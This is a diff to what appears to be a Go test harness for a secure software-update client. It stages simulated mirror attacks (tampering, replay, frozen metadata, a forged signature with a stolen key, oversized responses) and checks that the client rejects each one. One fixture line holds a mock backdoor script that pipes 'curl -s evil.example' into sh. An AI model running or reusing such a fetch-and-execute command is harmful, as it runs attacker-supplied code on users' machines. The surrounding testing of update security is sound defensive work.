@@ -97,12 +97,13 @@ type tlogInfo struct {
 // sync 2.0.0, and what they tamper with), and a device on which a latch
 // client installed 1.0.0 from them.
 type world struct {
-	repo   *repo
-	sites  []*site
-	clock  *clock
-	log    *logBook
-	client *client.Client
-	app    string // the installed application
+	repo     *repo
+	sites    []*site
+	clock    *clock
+	log      *logBook
+	client   *client.Client
+	app      string // the installed application
+	stateDir string // the client's
 }
 
 func newWorld(ctx context.Context, dir string, mirrors ...string) (_ *world, err error) {
@@ -112,8 +113,12 @@ func newWorld(ctx context.Context, dir string, mirrors ...string) (_ *world, err
 // newWorldLogged is newWorld with the repository logging every release in
 // tl, served by each mirror under /log/, and the client requiring that log
 // for myapp's releases (nil: no log).
-func newWorldLogged(ctx context.Context, dir string, tl *releaseLog, mirrors ...string) (_ *world, err error) {
-	w := &world{clock: &clock{t: demoStart}, log: &logBook{}, app: filepath.Join(dir, "app", "myapp")}
+func newWorldLogged(ctx context.Context, dir string, tl *releaseLog,
+	mirrors ...string) (_ *world, err error) {
+	w := &world{
+		clock: &clock{t: demoStart}, log: &logBook{},
+		app: filepath.Join(dir, "app", "myapp"), stateDir: filepath.Join(dir, "tuf"),
+	}
 	defer func() {
 		if err != nil {
 			w.close()
@@ -126,7 +131,7 @@ func newWorldLogged(ctx context.Context, dir string, tl *releaseLog, mirrors ...
 	if err := w.repo.release("1.0.0"); err != nil {
 		return nil, err
 	}
-	cfg := client.Config{TrustedRoot: w.repo.rootJSON(), StateDir: filepath.Join(dir, "tuf")}
+	cfg := client.Config{TrustedRoot: w.repo.rootJSON(), StateDir: w.stateDir}
 	for _, name := range mirrors {
 		s := newSite(name)
 		s.sync(w.repo)
@@ -138,14 +143,16 @@ func newWorldLogged(ctx context.Context, dir string, tl *releaseLog, mirrors ...
 			if cfg.TransparencyLog == nil {
 				cfg.TransparencyLog = tl.policy()
 			}
-			cfg.TransparencyLog.URLs = append(cfg.TransparencyLog.URLs, s.srv.URL+"/log/")
+			tlog := cfg.TransparencyLog
+			tlog.URLs = append(tlog.URLs, s.srv.URL+"/log/")
 		}
 	}
 	if err := os.MkdirAll(filepath.Dir(w.app), 0o755); err != nil {
 		return nil, err
 	}
 	logger := slog.New(slog.NewJSONHandler(w.log, &slog.HandlerOptions{Level: slog.LevelWarn}))
-	if w.client, err = client.New(cfg, client.WithClock(w.clock.now), client.WithLogger(logger)); err != nil {
+	w.client, err = client.New(cfg, client.WithClock(w.clock.now), client.WithLogger(logger))
+	if err != nil {
 		return nil, err
 	}
 	if _, err := w.update(ctx, "1.0.0"); err != nil {
@@ -195,7 +202,9 @@ func (w *world) update(ctx context.Context, version string) (*client.Target, err
 		return nil, fmt.Errorf("release metadata of %s: %w", t.Path(), err)
 	}
 	if info.Version != version || !slices.Contains(info.Channels, "stable") {
-		return nil, fmt.Errorf("%s is signed as version %q on channels %q, not %s on stable", t.Path(), info.Version, info.Channels, version)
+		return nil, fmt.Errorf("%s is signed as version %q on channels %q, "+
+			"not %s on stable",
+			t.Path(), info.Version, info.Channels, version)
 	}
 	return t, w.client.DownloadFile(ctx, t, w.app)
 }
@@ -228,9 +237,12 @@ func (a appState) equal(b appState) bool {
 
 // label names the installed application by its content.
 func (a appState) label() string {
-	for _, v := range []string{"1.0.0", "2.0.0", "2.0.1"} {
+	for _, v := range []string{"1.0.0", "2.0.0", "2.0.1", "2.1.0"} {
 		if bytes.Equal(a.content, binary(v)) {
 			return "myapp " + v
+		}
+		if bytes.Equal(a.content, brokenBuild(v)) {
+			return "broken " + v
 		}
 		if bytes.Equal(a.content, backdoor(v)) {
 			return "backdoor " + v
@@ -257,6 +269,11 @@ func (w *world) shorten(msg string) string {
 	for _, s := range w.sites {
 		msg = strings.ReplaceAll(msg, s.srv.URL, s.name)
 	}
+	return shortHashes(msg)
+}
+
+// shortHashes shortens the SHA-256 hashes in msg to their first 10 digits.
+func shortHashes(msg string) string {
 	return longHex.ReplaceAllStringFunc(msg, func(h string) string { return h[:10] + "…" })
 }
 
@@ -323,7 +340,7 @@ var scenes = []scene{
 			w.syncAll()
 			b := binary("2.0.0")
 			b[len(b)/2] ^= 0x01
-			w.mirror().attack(targetURLPath(targetPath("2.0.0"), binary("2.0.0")), serveBytes(b))
+			w.mirror().attack(release2URL(), serveBytes(b))
 			return nil
 		},
 	},
@@ -337,13 +354,15 @@ var scenes = []scene{
 			if _, err := w.update(ctx, "2.0.0"); err != nil {
 				return fmt.Errorf("honest update before the replay: %w", err)
 			}
-			w.mirror().attack("metadata/timestamp.json", serveBytes(w.repo.timestamps[0]))
+			old := w.repo.timestamps[0]
+			w.mirror().attack("metadata/timestamp.json", serveBytes(old))
 			return nil
 		},
 	},
 	{
-		name:    "frozen metadata",
-		attack:  "keeps serving 1.0.0's metadata after 2.0.0 is out; the clock moves 2 days on",
+		name: "frozen metadata",
+		attack: "keeps serving 1.0.0's metadata after 2.0.0 is out; " +
+			"the clock moves 2 days on",
 		mirrors: []string{"mirror"},
 		want:    client.ErrExpired,
 		stage: func(_ context.Context, w *world) error {
@@ -353,26 +372,32 @@ var scenes = []scene{
 		},
 	},
 	{
-		name:    "mix-and-match",
-		attack:  "serves the valid targets v1 under the name 2.targets.json that snapshot v2 lists",
+		name: "mix-and-match",
+		attack: "serves the valid targets v1 under the name 2.targets.json " +
+			"that snapshot v2 lists",
 		mirrors: []string{"mirror"},
 		want:    client.ErrVersionMismatch,
-		note:    "snapshot lists targets.json by version only (go-tuf's default); with hashes listed, ErrHashMismatch would come first",
+		note: "snapshot lists targets.json by version only (go-tuf's default); " +
+			"with hashes listed, ErrHashMismatch would come first",
 		stage: func(_ context.Context, w *world) error {
 			w.syncAll()
-			w.mirror().attack("metadata/2.targets.json", serveBytes(w.repo.files["metadata/1.targets.json"]))
+			v1 := w.repo.files["metadata/1.targets.json"]
+			w.mirror().attack("metadata/2.targets.json", serveBytes(v1))
 			return nil
 		},
 	},
 	{
-		name:    "stolen key below threshold",
-		attack:  "signs targets v2 with 1 of the 2 required keys, pointing myapp 2.0.0 at a backdoor",
+		name: "stolen key below threshold",
+		attack: "signs targets v2 with 1 of the 2 required keys, " +
+			"pointing myapp 2.0.0 at a backdoor",
 		mirrors: []string{"mirror"},
 		want:    client.ErrThreshold,
 		stage: func(_ context.Context, w *world) error {
 			w.syncAll()
 			evil := []byte("#!/bin/sh\necho 'myapp 2.0.0'; curl -s evil.example | sh\n")
-			forged, err := w.repo.forgeTargets(targetPath("2.0.0"), "2.0.0", evil, nil, w.repo.keys[metadata.TARGETS][0])
+			stolen := w.repo.keys[metadata.TARGETS][0]
+			p := targetPath("2.0.0")
+			forged, err := w.repo.forgeTargets(p, "2.0.0", evil, nil, stolen)
 			if err != nil {
 				return err
 			}
@@ -387,7 +412,7 @@ var scenes = []scene{
 		mirrors: []string{"mirror-a", "mirror-b"},
 		stage: func(_ context.Context, w *world) error {
 			w.syncAll()
-			w.mirror().attack(targetURLPath(targetPath("2.0.0"), binary("2.0.0")), serveBytes(binary("1.0.0")))
+			w.mirror().attack(release2URL(), serveBytes(binary("1.0.0")))
 			return nil
 		},
 	},
@@ -398,7 +423,8 @@ var scenes = []scene{
 		want:    client.ErrTooLarge,
 		stage: func(_ context.Context, w *world) error {
 			w.syncAll()
-			w.mirror().attack("metadata/timestamp.json", serveEndless([]byte(`{"signed":`)))
+			endless := serveEndless([]byte(`{"signed":`))
+			w.mirror().attack("metadata/timestamp.json", endless)
 			return nil
 		},
 	},
@@ -409,11 +435,14 @@ var scenes = []scene{
 		want:    client.ErrTooLarge,
 		stage: func(_ context.Context, w *world) error {
 			w.syncAll()
-			w.mirror().attack(targetURLPath(targetPath("2.0.0"), binary("2.0.0")), serveEndless(binary("2.0.0")))
+			w.mirror().attack(release2URL(), serveEndless(binary("2.0.0")))
 			return nil
 		},
 	},
 }
+
+// release2URL is where a mirror serves myapp 2.0.0.
+func release2URL() string { return targetURLPath(targetPath("2.0.0"), binary("2.0.0")) }
 
 // freezeFor is how far the frozen-metadata scene moves the clock: past the
 // timestamp's expiry.
@@ -483,7 +512,8 @@ func (w *world) survived(uerr error, after appState) (outcome, error) {
 	if len(skips) == 0 {
 		o.evidence = "no mirror skipped"
 	}
-	o.stopped = after.label() == "myapp 2.0.0" && len(mirrors) == 1 && mirrors[0] == bad.targetsURL() &&
+	o.stopped = after.label() == "myapp 2.0.0" &&
+		len(mirrors) == 1 && mirrors[0] == bad.targetsURL() &&
 		strings.Contains(reasons[0], client.ErrHashMismatch.Error())
 	return o, nil
 }
